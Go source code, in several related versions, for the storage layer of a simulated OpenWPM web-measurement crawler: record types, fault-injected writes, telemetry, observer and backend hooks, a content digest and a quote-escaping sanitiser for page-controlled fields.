	// Salvaged marks a partial record: the visit aborted (crash/watchdog)
	// but whatever was captured before the abort was kept.
	Salvaged bool
	// ErrorClass is the recovery taxonomy of Error ("transient",
	// "permanent", "hang", "crash", "crawl-budget"), empty on success.
	ErrorClass string
}

// CrashRecord mirrors OpenWPM's crash table: one row per browser restart,
// with the page being visited and why the browser was discarded.
type CrashRecord struct {
	SiteURL string
	PageURL string
	Attempt int
	Class   string
	Error   string
}

// Storage is OpenWPM's data store. Inputs that originate in page-controlled
// data pass through Sanitize, mirroring the parameterised SQLite layer the
// paper found to be injection-safe (Sec. 5.3).
type Storage struct {
	JSCalls     []JSCall
	Requests    []RequestRecord
	Cookies     []CookieEntry
	ScriptFiles map[string]ScriptFile // keyed by content hash
	Visits      []VisitRecord
	Crashes     []CrashRecord

	// FaultFn, when set, simulates storage-layer write failures: a true
	// return drops the write. Instrument tables honour it; the visit and
	// crash tables never do — site accounting must survive storage faults.
	FaultFn func(table string) bool
	// Dropped counts writes lost to storage faults, per table.
	Dropped map[string]int
}

// NewStorage returns an empty store.
func NewStorage() *Storage {
	return &Storage{ScriptFiles: map[string]ScriptFile{}, Dropped: map[string]int{}}
}

// dropWrite consults the storage fault hook for one write to table.
func (s *Storage) dropWrite(table string) bool {
	if s.FaultFn != nil && s.FaultFn(table) {
		if s.Dropped == nil {
			s.Dropped = map[string]int{}
		}
		s.Dropped[table]++
		return true
	}
	return false
}

// DroppedTotal is the number of writes lost across all tables.
func (s *Storage) DroppedTotal() int {
	n := 0
	for _, c := range s.Dropped {
		n += c
	}
	return n
}

// AddVisit stores a visit record. Visit rows are exempt from storage
// faults: losing one would silently lose a site from the crawl accounting.
func (s *Storage) AddVisit(rec VisitRecord) {
	s.Visits = append(s.Visits, rec)
}

// AddCrash stores a crash record (exempt from storage faults, like visits).
func (s *Storage) AddCrash(rec CrashRecord) {
	rec.Error = Sanitize(rec.Error)
	s.Crashes = append(s.Crashes, rec)
}

// AddRequest stores an HTTP request record.
func (s *Storage) AddRequest(rec RequestRecord) {
	if s.dropWrite("http_requests") {
		return
	}
	s.Requests = append(s.Requests, rec)
}

// AddCookie stores a cookie record.
func (s *Storage) AddCookie(c CookieEntry) {
	if s.dropWrite("javascript_cookies") {
		return
	}
	s.Cookies = append(s.Cookies, c)
}

// Sanitize neutralises page-controlled strings before storage: quotes are
// escaped and length is bounded, so stored fields can never break out of a
// record (the SQL-injection surface of RQ7).
func Sanitize(s string) string {
	s = strings.ReplaceAll(s, "'", "''")
	s = strings.ReplaceAll(s, "\x00", "")
	s = strings.ReplaceAll(s, "\n", "\\n")
	if len(s) > 512 {
		s = s[:512]
	}
	return s
}

// AddJSCall stores a JS call record, sanitising page-controlled fields.
func (s *Storage) AddJSCall(c JSCall) {
	if s.dropWrite("javascript") {
		return
	}
	c.Symbol = Sanitize(c.Symbol)
	c.Value = Sanitize(c.Value)
	c.Args = Sanitize(c.Args)
	c.ScriptURL = Sanitize(c.ScriptURL)
	s.JSCalls = append(s.JSCalls, c)
}

// AddScriptFile stores a response body keyed by hash, tracking every URL
// that served it.
func (s *Storage) AddScriptFile(url, content, ctype string) {
	if s.dropWrite("content") {
		return
	}
	sum := sha256.Sum256([]byte(content))
	key := hex.EncodeToString(sum[:])
	f, ok := s.ScriptFiles[key]
	if !ok {
		s.ScriptFiles[key] = ScriptFile{URL: url, SHA256: key, Content: content, CType: ctype, URLs: []string{url}}
		return
	}
	for _, u := range f.URLs {
		if u == url {
			return
		}
	}
	f.URLs = append(f.URLs, url)
	s.ScriptFiles[key] = f
}

// Merge folds other's records into s (used to combine per-worker storages
// after a sharded crawl).
func (s *Storage) Merge(other *Storage) {
	s.JSCalls = append(s.JSCalls, other.JSCalls...)
	s.Requests = append(s.Requests, other.Requests...)
	s.Cookies = append(s.Cookies, other.Cookies...)
	s.Visits = append(s.Visits, other.Visits...)
	s.Crashes = append(s.Crashes, other.Crashes...)
	if len(other.Dropped) > 0 {
		if s.Dropped == nil {
			s.Dropped = map[string]int{}
		}
		for table, n := range other.Dropped {
			s.Dropped[table] += n
		}
	}
	for key, f := range other.ScriptFiles {
		existing, ok := s.ScriptFiles[key]
		if !ok {
			s.ScriptFiles[key] = f
			continue
		}
		for _, u := range f.URLs {
			dup := false
			for _, eu := range existing.URLs {
				if eu == u {
					dup = true
					break
				}
			}
			if !dup {
				existing.URLs = append(existing.URLs, u)
			}
		}
		s.ScriptFiles[key] = existing
	}
}

// JSCallsBySymbol tallies recorded calls per symbol.
func (s *Storage) JSCallsBySymbol() map[string]int {
	out := map[string]int{}
	for _, c := range s.JSCalls {
		out[c.Symbol]++
	}
	return out
}

// RequestsByType tallies requests per resource type.
func (s *Storage) RequestsByType() map[httpsim.ResourceType]int {
	out := map[httpsim.ResourceType]int{}
	for _, r := range s.Requests {
		out[r.Type]++
	}
	return out
}
