// Package openwpm simulates the OpenWPM measurement framework on top of the
// simulated browser: a TaskManager orchestrating visits, a BrowserManager
// restarting crashed browsers, and the three instruments the paper studies —
// JavaScript call recording, HTTP traffic recording and cookie recording.
// The vanilla JS instrument deliberately reproduces the weaknesses the paper
// identifies (Secs. 3.1.4 and 5); package stealth provides the hardened
// variant (WPM_hide).
package openwpm

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"unicode/utf8"

	"gullible/internal/httpsim"
	"gullible/internal/telemetry"
)

// JSCall is one recorded JavaScript API interaction.
type JSCall struct {
	TopURL    string // set host-side; a page cannot spoof it (Sec. 5.2)
	FrameURL  string
	Symbol    string // "Interface.property"
	Operation string // "get", "set" or "call"
	Value     string
	Args      string
	ScriptURL string // as reported by the in-page instrumentation
	Time      float64
}

// RequestRecord is one recorded HTTP request.
type RequestRecord struct {
	URL      string
	TopURL   string
	Type     httpsim.ResourceType
	Method   string
	Status   int
	CType    string
	Time     float64
	BodySize int
}

// CookieEntry is one recorded cookie store operation.
type CookieEntry struct {
	Name       string
	Value      string
	Domain     string
	TopURL     string
	Expires    float64
	ViaJS      bool
	FirstParty bool
	Time       float64
}

// ScriptFile is a stored response body (a JavaScript file, or any body in
// full-coverage mode). Identical content is stored once; URLs lists every
// location it was served from.
type ScriptFile struct {
	URL     string // first URL observed
	SHA256  string
	Content string
	CType   string
	URLs    []string // all URLs serving this content, deduplicated
}

// TamperFinding is one static tamper-rule hit inside a stored script. The
// types live here rather than in internal/analysis because analysis imports
// openwpm (for JSCall); the analyser adapts onto TamperFunc instead.
type TamperFinding struct {
	Rule   string `json:"rule"`
	Line   int    `json:"line"`
	Detail string `json:"detail,omitempty"`
}

// TamperRecord is the stored static analysis of one script body, keyed like
// the content table by SHA-256 of the body.
type TamperRecord struct {
	SHA256 string `json:"sha256"`
	URL    string `json:"url"` // first URL observed serving the body
	// Parsed is false when the analyser fell back to regex matching.
	Parsed   bool            `json:"parsed"`
	Findings []TamperFinding `json:"findings,omitempty"`
}

// TamperFunc statically analyses one script body. Returning false stores no
// record (a parsed, finding-free script). It must be pure: the same content
// must always produce the same record, or record→replay diffs break.
type TamperFunc func(content string) (TamperRecord, bool)

// VisitRecord summarises one page visit.
type VisitRecord struct {
	SiteURL  string
	FinalURL string
	// Site is the crawl input URL this page belongs to (equal to SiteURL
	// for front pages); it lets archival consumers group subpage visits
	// under their root site.
	Site       string
	Subpage    bool
	OK         bool
	Error      string
	CSPReports int
	// InstrumentInstalled reports whether the JS instrument attached
	// successfully (CSP can block the vanilla injection, Sec. 5.1.2).
	InstrumentInstalled bool
	// Restarts counts browser restarts consumed reaching this outcome.
	Restarts int
	// Salvaged marks a partial record: the visit aborted (crash/watchdog)
	// but whatever was captured before the abort was kept.
	Salvaged bool
	// ErrorClass is the recovery taxonomy of Error ("transient",
	// "permanent", "hang", "crash", "crawl-budget"), empty on success.
	ErrorClass string
}

// CrashRecord mirrors OpenWPM's crash table: one row per browser restart,
// with the page being visited and why the browser was discarded.
type CrashRecord struct {
	SiteURL string
	PageURL string
	Attempt int
	Class   string
	Error   string
}

// Storage is OpenWPM's data store. Inputs that originate in page-controlled
// data pass through Sanitize, mirroring the parameterised SQLite layer the
// paper found to be injection-safe (Sec. 5.3).
type Storage struct {
	JSCalls     []JSCall
	Requests    []RequestRecord
	Cookies     []CookieEntry
	ScriptFiles map[string]ScriptFile // keyed by content hash
	Visits      []VisitRecord
	Crashes     []CrashRecord
	Tampers     []TamperRecord

	// TamperFn, when set, statically analyses each first-seen script body
	// and stores the resulting TamperRecord alongside the content table.
	TamperFn TamperFunc

	// FaultFn, when set, simulates storage-layer write failures: a true
	// return drops the write. Instrument tables honour it; the visit and
	// crash tables never do — site accounting must survive storage faults.
	FaultFn func(table string) bool
	// Dropped counts writes lost to storage faults, per table.
	Dropped map[string]int

	// Observer, when set, sees every record the store accepts — after
	// sanitisation and after the fault filter, so an observer archives
	// exactly what the measurement database holds. Package bundle
	// implements it to record crawls into execution bundles.
	Observer StorageObserver

	// Backend, when set, receives the same accepted stream as a durable
	// append (package wal). Append failures are counted in BackendErrors
	// and telemetry; the in-memory tables are unaffected — a failing disk
	// degrades durability, never the live crawl.
	Backend Backend
	// BackendErrors counts backend appends that failed, per table.
	BackendErrors map[string]int

	// visitSite is the crawl input URL currently being visited, stamped by
	// the task manager so storage-drop events and durable drop records can
	// name the site that owned the lost write.
	visitSite string

	// telemetry handles, pre-resolved per table by SetTelemetry. Lookups on
	// the nil maps return nil counters, whose updates are no-ops, so the
	// disabled path needs no branches.
	tel         *telemetry.Telemetry
	writeMeters map[string]*telemetry.Counter
	dropMeters  map[string]*telemetry.Counter
}

// SetVisitContext stamps the site whose visit currently owns storage writes;
// drop accounting attributes losses to it.
func (s *Storage) SetVisitContext(site string) { s.visitSite = site }

// backendErr accounts one failed backend append on table. The record stays
// in memory; the failure is visible in BackendErrors and telemetry.
func (s *Storage) backendErr(table string, err error) {
	if err == nil {
		return
	}
	if s.BackendErrors == nil {
		s.BackendErrors = map[string]int{}
	}
	s.BackendErrors[table]++
	if s.tel.Enabled() {
		s.tel.Counter("storage_backend_errors_total", telemetry.L("table", table)).Inc()
		s.tel.Event(telemetry.LevelWarn, "storage-backend-error", 0,
			telemetry.L("table", table), telemetry.L("site", s.visitSite))
	}
}

// storageTables lists every table name the store writes, fault-exempt ones
// included.
var storageTables = []string{"site_visits", "crashes", "http_requests", "javascript_cookies", "javascript", "content", "javascript_tamper"}

// SetTelemetry wires the store into a telemetry registry: per-table write
// and drop counters plus a storage-drop event per lost write. Call before
// crawling; a nil argument leaves telemetry off.
func (s *Storage) SetTelemetry(tel *telemetry.Telemetry) {
	if !tel.Enabled() {
		return
	}
	s.tel = tel
	s.writeMeters = make(map[string]*telemetry.Counter, len(storageTables))
	s.dropMeters = make(map[string]*telemetry.Counter, len(storageTables))
	for _, t := range storageTables {
		s.writeMeters[t] = tel.Counter("storage_writes_total", telemetry.L("table", t))
		s.dropMeters[t] = tel.Counter("storage_drops_total", telemetry.L("table", t))
	}
}

// StorageObserver receives every accepted storage write. Implementations
// must tolerate being called from the single goroutine driving a crawl;
// sharded crawls use one observer per worker storage.
type StorageObserver interface {
	ObserveVisit(VisitRecord)
	ObserveCrash(CrashRecord)
	ObserveRequest(RequestRecord)
	ObserveCookie(CookieEntry)
	ObserveJSCall(JSCall)
	// ObserveScriptFile reports one accepted body write (url may repeat
	// for deduplicated content; sha identifies the content).
	ObserveScriptFile(url, sha, content, ctype string)
	// ObserveTamperReport reports one stored static-analysis record (at
	// most one per distinct script body).
	ObserveTamperReport(TamperRecord)
}

// NewStorage returns an empty store.
func NewStorage() *Storage {
	return &Storage{ScriptFiles: map[string]ScriptFile{}, Dropped: map[string]int{}}
}

// dropWrite consults the storage fault hook for one write to table.
// NewStorage allocates Dropped, so no lazy initialisation happens here; the
// drop event and the durable drop record both carry the owning table's visit
// context so WAL replay can attribute the loss deterministically.
func (s *Storage) dropWrite(table string) bool {
	if s.FaultFn != nil && s.FaultFn(table) {
		s.Dropped[table]++
		s.dropMeters[table].Inc()
		if s.tel.Enabled() {
			s.tel.Event(telemetry.LevelWarn, "storage-drop", 0,
				telemetry.L("table", table), telemetry.L("site", s.visitSite))
		}
		if s.Backend != nil {
			s.backendErr(table, s.Backend.AppendDrop(table, s.visitSite))
		}
		return true
	}
	s.writeMeters[table].Inc()
	return false
}

// DroppedTotal is the number of writes lost across all tables.
func (s *Storage) DroppedTotal() int {
	n := 0
	for _, c := range s.Dropped {
		n += c
	}
	return n
}

// AddVisit stores a visit record. Visit rows are exempt from storage
// faults: losing one would silently lose a site from the crawl accounting.
func (s *Storage) AddVisit(rec VisitRecord) {
	s.writeMeters["site_visits"].Inc()
	s.Visits = append(s.Visits, rec)
	if s.Observer != nil {
		s.Observer.ObserveVisit(rec)
	}
	if s.Backend != nil {
		s.backendErr("site_visits", s.Backend.AppendVisit(rec))
	}
}

// AddCrash stores a crash record (exempt from storage faults, like visits).
func (s *Storage) AddCrash(rec CrashRecord) {
	s.writeMeters["crashes"].Inc()
	rec.Error = Sanitize(rec.Error)
	s.Crashes = append(s.Crashes, rec)
	if s.Observer != nil {
		s.Observer.ObserveCrash(rec)
	}
	if s.Backend != nil {
		s.backendErr("crashes", s.Backend.AppendCrash(rec))
	}
}

// AddRequest stores an HTTP request record.
func (s *Storage) AddRequest(rec RequestRecord) {
	if s.dropWrite("http_requests") {
		return
	}
	s.Requests = append(s.Requests, rec)
	if s.Observer != nil {
		s.Observer.ObserveRequest(rec)
	}
	if s.Backend != nil {
		s.backendErr("http_requests", s.Backend.AppendRequest(rec))
	}
}

// AddCookie stores a cookie record.
func (s *Storage) AddCookie(c CookieEntry) {
	if s.dropWrite("javascript_cookies") {
		return
	}
	s.Cookies = append(s.Cookies, c)
	if s.Observer != nil {
		s.Observer.ObserveCookie(c)
	}
	if s.Backend != nil {
		s.backendErr("javascript_cookies", s.Backend.AppendCookie(c))
	}
}

// maxSanitized bounds the stored length of page-controlled strings.
const maxSanitized = 512

// Sanitize neutralises page-controlled strings before storage: quotes are
// escaped and length is bounded, so stored fields can never break out of a
// record (the SQL-injection surface of RQ7). Truncation never splits a
// multi-byte rune or an escape pair, so sanitised fields stay valid UTF-8
// and serialise canonically (bundle archival relies on this).
func Sanitize(s string) string {
	s = strings.ReplaceAll(s, "'", "''")
	s = strings.ReplaceAll(s, "\x00", "")
	s = strings.ReplaceAll(s, "\n", "\\n")
	if len(s) > maxSanitized {
		cut := maxSanitized
		for cut > maxSanitized-utf8.UTFMax && !utf8.RuneStart(s[cut]) {
			cut--
		}
		s = s[:cut]
		// an odd run of trailing quotes means the cut split a doubled pair
		run := 0
		for run < len(s) && s[len(s)-1-run] == '\'' {
			run++
		}
		if run%2 == 1 {
			s = s[:len(s)-1]
		}
	}
	return s
}

// AddJSCall stores a JS call record, sanitising page-controlled fields.
func (s *Storage) AddJSCall(c JSCall) {
	if s.dropWrite("javascript") {
		return
	}
	c.Symbol = Sanitize(c.Symbol)
	c.Value = Sanitize(c.Value)
	c.Args = Sanitize(c.Args)
	c.ScriptURL = Sanitize(c.ScriptURL)
	s.JSCalls = append(s.JSCalls, c)
	if s.Observer != nil {
		s.Observer.ObserveJSCall(c)
	}
	if s.Backend != nil {
		s.backendErr("javascript", s.Backend.AppendJSCall(c))
	}
}

// AddTamperReport stores a static tamper-analysis record. Tamper rows are
// derived data — a pure function of stored content — so like visits they are
// exempt from storage faults: dropping one would desynchronise the content
// and tamper tables for no modelled failure mode. Rule hits feed per-rule
// telemetry counters.
func (s *Storage) AddTamperReport(rec TamperRecord) {
	s.writeMeters["javascript_tamper"].Inc()
	if s.tel.Enabled() {
		for _, f := range rec.Findings {
			s.tel.Counter("tamper_rule_hits_total", telemetry.L("rule", f.Rule)).Inc()
		}
	}
	s.Tampers = append(s.Tampers, rec)
	if s.Observer != nil {
		s.Observer.ObserveTamperReport(rec)
	}
	if s.Backend != nil {
		s.backendErr("javascript_tamper", s.Backend.AppendTamper(rec))
	}
}

// AddScriptFile stores a response body keyed by hash, tracking every URL
// that served it. First-seen content additionally runs through TamperFn.
func (s *Storage) AddScriptFile(url, content, ctype string) {
	if s.dropWrite("content") {
		return
	}
	sum := sha256.Sum256([]byte(content))
	key := hex.EncodeToString(sum[:])
	if s.Observer != nil {
		s.Observer.ObserveScriptFile(url, key, content, ctype)
	}
	if s.Backend != nil {
		s.backendErr("content", s.Backend.AppendScriptFile(url, key, content, ctype))
	}
	f, ok := s.ScriptFiles[key]
	if !ok {
		s.ScriptFiles[key] = ScriptFile{URL: url, SHA256: key, Content: content, CType: ctype, URLs: []string{url}}
		if s.TamperFn != nil {
			if rec, hit := s.TamperFn(content); hit {
				rec.SHA256 = key
				rec.URL = url
				s.AddTamperReport(rec)
			}
		}
		return
	}
	for _, u := range f.URLs {
		if u == url {
			return
		}
	}
	f.URLs = append(f.URLs, url)
	s.ScriptFiles[key] = f
}

// Merge folds other's records into s (used to combine per-worker storages
// after a sharded crawl).
func (s *Storage) Merge(other *Storage) {
	s.JSCalls = append(s.JSCalls, other.JSCalls...)
	s.Requests = append(s.Requests, other.Requests...)
	s.Cookies = append(s.Cookies, other.Cookies...)
	s.Visits = append(s.Visits, other.Visits...)
	s.Crashes = append(s.Crashes, other.Crashes...)
	have := make(map[string]bool, len(s.Tampers))
	for _, t := range s.Tampers {
		have[t.SHA256] = true
	}
	for _, t := range other.Tampers {
		// shards that saw the same body both analysed it; keep one record
		if !have[t.SHA256] {
			have[t.SHA256] = true
			s.Tampers = append(s.Tampers, t)
		}
	}
	if len(other.Dropped) > 0 {
		if s.Dropped == nil {
			s.Dropped = map[string]int{}
		}
		for table, n := range other.Dropped {
			s.Dropped[table] += n
		}
	}
	if len(other.BackendErrors) > 0 {
		if s.BackendErrors == nil {
			s.BackendErrors = map[string]int{}
		}
		for table, n := range other.BackendErrors {
			s.BackendErrors[table] += n
		}
	}
	for key, f := range other.ScriptFiles {
		existing, ok := s.ScriptFiles[key]
		if !ok {
			s.ScriptFiles[key] = f
			continue
		}
		for _, u := range f.URLs {
			dup := false
			for _, eu := range existing.URLs {
				if eu == u {
					dup = true
					break
				}
			}
			if !dup {
				existing.URLs = append(existing.URLs, u)
			}
		}
		s.ScriptFiles[key] = existing
	}
}

// JSCallsBySymbol tallies recorded calls per symbol.
func (s *Storage) JSCallsBySymbol() map[string]int {
	out := map[string]int{}
	for _, c := range s.JSCalls {
		out[c.Symbol]++
	}
	return out
}

// RequestsByType tallies requests per resource type.
func (s *Storage) RequestsByType() map[httpsim.ResourceType]int {
	out := map[httpsim.ResourceType]int{}
	for _, r := range s.Requests {
		out[r.Type]++
	}
	return out
}

// Digest is a deterministic SHA-256 over every table: two crawls that
// stored the same records in the same order share a digest. Record-ordered
// tables hash in insertion order; the content-addressed script store, the
// tamper table and the dropped-write counters hash in sorted key order.
// Replaying a crawl from its execution bundle must reproduce this digest
// exactly. The computation is DigestState fed from the tables, so a durable
// backend that fed the same accept stream incrementally arrives at the same
// value.
func (s *Storage) Digest() string {
	d := NewDigestState()
	for _, v := range s.Visits {
		d.AddVisit(v)
	}
	for _, c := range s.Crashes {
		d.AddCrash(c)
	}
	for _, r := range s.Requests {
		d.AddRequest(r)
	}
	for _, c := range s.JSCalls {
		d.AddJSCall(c)
	}
	for _, c := range s.Cookies {
		d.AddCookie(c)
	}
	for k, f := range s.ScriptFiles {
		for _, u := range f.URLs {
			d.AddScript(u, k, f.CType)
		}
	}
	for _, t := range s.Tampers {
		d.AddTamper(t)
	}
	for t, n := range s.Dropped {
		d.AddDropped(t, n)
	}
	return d.Sum()
}
