// Package openwpm simulates the OpenWPM measurement framework on top of the
// simulated browser: a TaskManager orchestrating visits, a BrowserManager
// restarting crashed browsers, and the three instruments the paper studies —
// JavaScript call recording, HTTP traffic recording and cookie recording.
// The vanilla JS instrument deliberately reproduces the weaknesses the paper
// identifies (Secs. 3.1.4 and 5); package stealth provides the hardened
// variant (WPM_hide).
package openwpm

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"
	"unicode/utf8"

	"gullible/internal/httpsim"
	"gullible/internal/telemetry"
)

// JSCall is one recorded JavaScript API interaction.
type JSCall struct {
	TopURL    string // set host-side; a page cannot spoof it (Sec. 5.2)
	FrameURL  string
	Symbol    string // "Interface.property"
	Operation string // "get", "set" or "call"
	Value     string
	Args      string
	ScriptURL string // as reported by the in-page instrumentation
	Time      float64
}

// RequestRecord is one recorded HTTP request.
type RequestRecord struct {
	URL      string
	TopURL   string
	Type     httpsim.ResourceType
	Method   string
	Status   int
	CType    string
	Time     float64
	BodySize int
}

// CookieEntry is one recorded cookie store operation.
type CookieEntry struct {
	Name       string
	Value      string
	Domain     string
	TopURL     string
	Expires    float64
	ViaJS      bool
	FirstParty bool
	Time       float64
}

// ScriptFile is a stored response body (a JavaScript file, or any body in
// full-coverage mode). Identical content is stored once; URLs lists every
// location it was served from.
type ScriptFile struct {
	URL     string // first URL observed
	SHA256  string
	Content string
	CType   string
	URLs    []string // all URLs serving this content, deduplicated
}

// TamperFinding is one static tamper-rule hit inside a stored script. The
// types live here rather than in internal/analysis because analysis imports
// openwpm (for JSCall); the analyser adapts onto TamperFunc instead.
type TamperFinding struct {
	Rule   string `json:"rule"`
	Line   int    `json:"line"`
	Detail string `json:"detail,omitempty"`
}

// TamperRecord is the stored static analysis of one script body, keyed like
// the content table by SHA-256 of the body.
type TamperRecord struct {
	SHA256 string `json:"sha256"`
	URL    string `json:"url"` // first URL observed serving the body
	// Parsed is false when the analyser fell back to regex matching.
	Parsed   bool            `json:"parsed"`
	Findings []TamperFinding `json:"findings,omitempty"`
}

// TamperFunc statically analyses one script body. Returning false stores no
// record (a parsed, finding-free script). It must be pure: the same content
// must always produce the same record, or record→replay diffs break.
type TamperFunc func(content string) (TamperRecord, bool)

// VisitRecord summarises one page visit.
type VisitRecord struct {
	SiteURL  string
	FinalURL string
	// Site is the crawl input URL this page belongs to (equal to SiteURL
	// for front pages); it lets archival consumers group subpage visits
	// under their root site.
	Site       string
	Subpage    bool
	OK         bool
	Error      string
	CSPReports int
	// InstrumentInstalled reports whether the JS instrument attached
	// successfully (CSP can block the vanilla injection, Sec. 5.1.2).
	InstrumentInstalled bool
	// Restarts counts browser restarts consumed reaching this outcome.
	Restarts int
	// Salvaged marks a partial record: the visit aborted (crash/watchdog)
	// but whatever was captured before the abort was kept.
	Salvaged bool
	// ErrorClass is the recovery taxonomy of Error ("transient",
	// "permanent", "hang", "crash", "crawl-budget"), empty on success.
	ErrorClass string
}

// CrashRecord mirrors OpenWPM's crash table: one row per browser restart,
// with the page being visited and why the browser was discarded.
type CrashRecord struct {
	SiteURL string
	PageURL string
	Attempt int
	Class   string
	Error   string
}

// Storage is OpenWPM's data store. Inputs that originate in page-controlled
// data pass through Sanitize, mirroring the parameterised SQLite layer the
// paper found to be injection-safe (Sec. 5.3).
type Storage struct {
	JSCalls     []JSCall
	Requests    []RequestRecord
	Cookies     []CookieEntry
	ScriptFiles map[string]ScriptFile // keyed by content hash
	Visits      []VisitRecord
	Crashes     []CrashRecord
	Tampers     []TamperRecord

	// TamperFn, when set, statically analyses each first-seen script body
	// and stores the resulting TamperRecord alongside the content table.
	TamperFn TamperFunc

	// FaultFn, when set, simulates storage-layer write failures: a true
	// return drops the write. Instrument tables honour it; the visit and
	// crash tables never do — site accounting must survive storage faults.
	FaultFn func(table string) bool
	// Dropped counts writes lost to storage faults, per table.
	Dropped map[string]int

	// Observer, when set, sees every record the store accepts — after
	// sanitisation and after the fault filter, so an observer archives
	// exactly what the measurement database holds. Package bundle
	// implements it to record crawls into execution bundles.
	Observer StorageObserver

	// telemetry handles, pre-resolved per table by SetTelemetry. Lookups on
	// the nil maps return nil counters, whose updates are no-ops, so the
	// disabled path needs no branches.
	tel         *telemetry.Telemetry
	writeMeters map[string]*telemetry.Counter
	dropMeters  map[string]*telemetry.Counter
}

// storageTables lists every table name the store writes, fault-exempt ones
// included.
var storageTables = []string{"site_visits", "crashes", "http_requests", "javascript_cookies", "javascript", "content", "javascript_tamper"}

// SetTelemetry wires the store into a telemetry registry: per-table write
// and drop counters plus a storage-drop event per lost write. Call before
// crawling; a nil argument leaves telemetry off.
func (s *Storage) SetTelemetry(tel *telemetry.Telemetry) {
	if !tel.Enabled() {
		return
	}
	s.tel = tel
	s.writeMeters = make(map[string]*telemetry.Counter, len(storageTables))
	s.dropMeters = make(map[string]*telemetry.Counter, len(storageTables))
	for _, t := range storageTables {
		s.writeMeters[t] = tel.Counter("storage_writes_total", telemetry.L("table", t))
		s.dropMeters[t] = tel.Counter("storage_drops_total", telemetry.L("table", t))
	}
}

// StorageObserver receives every accepted storage write. Implementations
// must tolerate being called from the single goroutine driving a crawl;
// sharded crawls use one observer per worker storage.
type StorageObserver interface {
	ObserveVisit(VisitRecord)
	ObserveCrash(CrashRecord)
	ObserveRequest(RequestRecord)
	ObserveCookie(CookieEntry)
	ObserveJSCall(JSCall)
	// ObserveScriptFile reports one accepted body write (url may repeat
	// for deduplicated content; sha identifies the content).
	ObserveScriptFile(url, sha, content, ctype string)
	// ObserveTamperReport reports one stored static-analysis record (at
	// most one per distinct script body).
	ObserveTamperReport(TamperRecord)
}

// NewStorage returns an empty store.
func NewStorage() *Storage {
	return &Storage{ScriptFiles: map[string]ScriptFile{}, Dropped: map[string]int{}}
}

// dropWrite consults the storage fault hook for one write to table.
func (s *Storage) dropWrite(table string) bool {
	if s.FaultFn != nil && s.FaultFn(table) {
		if s.Dropped == nil {
			s.Dropped = map[string]int{}
		}
		s.Dropped[table]++
		s.dropMeters[table].Inc()
		if s.tel.Enabled() {
			s.tel.Event(telemetry.LevelWarn, "storage-drop", 0, telemetry.L("table", table))
		}
		return true
	}
	s.writeMeters[table].Inc()
	return false
}

// DroppedTotal is the number of writes lost across all tables.
func (s *Storage) DroppedTotal() int {
	n := 0
	for _, c := range s.Dropped {
		n += c
	}
	return n
}

// AddVisit stores a visit record. Visit rows are exempt from storage
// faults: losing one would silently lose a site from the crawl accounting.
func (s *Storage) AddVisit(rec VisitRecord) {
	s.writeMeters["site_visits"].Inc()
	s.Visits = append(s.Visits, rec)
	if s.Observer != nil {
		s.Observer.ObserveVisit(rec)
	}
}

// AddCrash stores a crash record (exempt from storage faults, like visits).
func (s *Storage) AddCrash(rec CrashRecord) {
	s.writeMeters["crashes"].Inc()
	rec.Error = Sanitize(rec.Error)
	s.Crashes = append(s.Crashes, rec)
	if s.Observer != nil {
		s.Observer.ObserveCrash(rec)
	}
}

// AddRequest stores an HTTP request record.
func (s *Storage) AddRequest(rec RequestRecord) {
	if s.dropWrite("http_requests") {
		return
	}
	s.Requests = append(s.Requests, rec)
	if s.Observer != nil {
		s.Observer.ObserveRequest(rec)
	}
}

// AddCookie stores a cookie record.
func (s *Storage) AddCookie(c CookieEntry) {
	if s.dropWrite("javascript_cookies") {
		return
	}
	s.Cookies = append(s.Cookies, c)
	if s.Observer != nil {
		s.Observer.ObserveCookie(c)
	}
}

// maxSanitized bounds the stored length of page-controlled strings.
const maxSanitized = 512

// Sanitize neutralises page-controlled strings before storage: quotes are
// escaped and length is bounded, so stored fields can never break out of a
// record (the SQL-injection surface of RQ7). Truncation never splits a
// multi-byte rune or an escape pair, so sanitised fields stay valid UTF-8
// and serialise canonically (bundle archival relies on this).
func Sanitize(s string) string {
	s = strings.ReplaceAll(s, "'", "''")
	s = strings.ReplaceAll(s, "\x00", "")
	s = strings.ReplaceAll(s, "\n", "\\n")
	if len(s) > maxSanitized {
		cut := maxSanitized
		for cut > maxSanitized-utf8.UTFMax && !utf8.RuneStart(s[cut]) {
			cut--
		}
		s = s[:cut]
		// an odd run of trailing quotes means the cut split a doubled pair
		run := 0
		for run < len(s) && s[len(s)-1-run] == '\'' {
			run++
		}
		if run%2 == 1 {
			s = s[:len(s)-1]
		}
	}
	return s
}

// AddJSCall stores a JS call record, sanitising page-controlled fields.
func (s *Storage) AddJSCall(c JSCall) {
	if s.dropWrite("javascript") {
		return
	}
	c.Symbol = Sanitize(c.Symbol)
	c.Value = Sanitize(c.Value)
	c.Args = Sanitize(c.Args)
	c.ScriptURL = Sanitize(c.ScriptURL)
	s.JSCalls = append(s.JSCalls, c)
	if s.Observer != nil {
		s.Observer.ObserveJSCall(c)
	}
}

// AddTamperReport stores a static tamper-analysis record. Tamper rows are
// derived data — a pure function of stored content — so like visits they are
// exempt from storage faults: dropping one would desynchronise the content
// and tamper tables for no modelled failure mode. Rule hits feed per-rule
// telemetry counters.
func (s *Storage) AddTamperReport(rec TamperRecord) {
	s.writeMeters["javascript_tamper"].Inc()
	if s.tel.Enabled() {
		for _, f := range rec.Findings {
			s.tel.Counter("tamper_rule_hits_total", telemetry.L("rule", f.Rule)).Inc()
		}
	}
	s.Tampers = append(s.Tampers, rec)
	if s.Observer != nil {
		s.Observer.ObserveTamperReport(rec)
	}
}

// AddScriptFile stores a response body keyed by hash, tracking every URL
// that served it. First-seen content additionally runs through TamperFn.
func (s *Storage) AddScriptFile(url, content, ctype string) {
	if s.dropWrite("content") {
		return
	}
	sum := sha256.Sum256([]byte(content))
	key := hex.EncodeToString(sum[:])
	if s.Observer != nil {
		s.Observer.ObserveScriptFile(url, key, content, ctype)
	}
	f, ok := s.ScriptFiles[key]
	if !ok {
		s.ScriptFiles[key] = ScriptFile{URL: url, SHA256: key, Content: content, CType: ctype, URLs: []string{url}}
		if s.TamperFn != nil {
			if rec, hit := s.TamperFn(content); hit {
				rec.SHA256 = key
				rec.URL = url
				s.AddTamperReport(rec)
			}
		}
		return
	}
	for _, u := range f.URLs {
		if u == url {
			return
		}
	}
	f.URLs = append(f.URLs, url)
	s.ScriptFiles[key] = f
}

// Merge folds other's records into s (used to combine per-worker storages
// after a sharded crawl).
